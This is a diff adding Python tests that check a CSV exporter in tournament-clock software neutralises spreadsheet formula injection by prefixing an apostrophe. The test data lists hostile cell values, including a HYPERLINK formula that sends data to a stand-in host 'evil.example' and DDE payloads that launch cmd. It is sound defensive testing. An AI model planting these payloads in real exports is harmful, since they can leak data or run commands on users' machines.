@@ -20,6 +20,7 @@ from clockd.core.bracket import (
     Walkover,
 )
 from clockd.core.clock import PerSide, Side
+from clockd.core.csvtext import spreadsheet_cell
 from clockd.core.duel import DecidedBy, Verdict
 from clockd.core.registration import Registration, parse_signups
 from clockd.core.units import MS, SECOND
@@ -183,3 +184,32 @@ def test_the_pdf_is_a_printable_page(results: Results, tmp_path: Path) -> None:
     data = path.read_bytes()
     assert data.startswith(b"%PDF-") and b"%%EOF" in data[-64:]
     assert pages >= 1
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak","Ola")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+FORMULAS += ["@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
+
+
+@pytest.mark.parametrize("cell", [*FORMULAS, "\r=1+1"])
+def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(cell: str) -> None:
+    assert spreadsheet_cell(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["-250", "0", "3.5", "-0.25", "Anna K.", "R1-1", "", "0:42"])
+def test_numbers_and_ordinary_text_are_left_as_they_are(cell: str) -> None:
+    assert spreadsheet_cell(cell) == cell
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula_but_keeps_numbers_numbers(results: Results) -> None:
+    players = [
+        p.model_copy(update={"name": FORMULAS[i % len(FORMULAS)]}) for i, p in enumerate(results.players)
+    ]
+    match = results.matches[0].model_copy(update={"remaining_ms": PerSide[int](a=-250, b=1500)})
+    hostile = results.model_copy(update={"players": players, "matches": [match, *results.matches[1:]]})
+    rows = list(csv.DictReader(io.StringIO(results_csv(hostile))))
+    names = {row[col] for row in rows for col in ("a_name", "b_name", "winner_name")} - {""}
+    assert names and all(name.startswith("'") and name[1:] in FORMULAS for name in names)
+    assert (rows[0]["remaining_ms_a"], rows[0]["remaining_ms_b"]) == ("-250", "1500")  # numbers stay numbers
+    assert all(
+        row["round"].isdigit() and row["moves_a"].lstrip("-").isdigit() for row in rows if row["moves_a"]
+    )
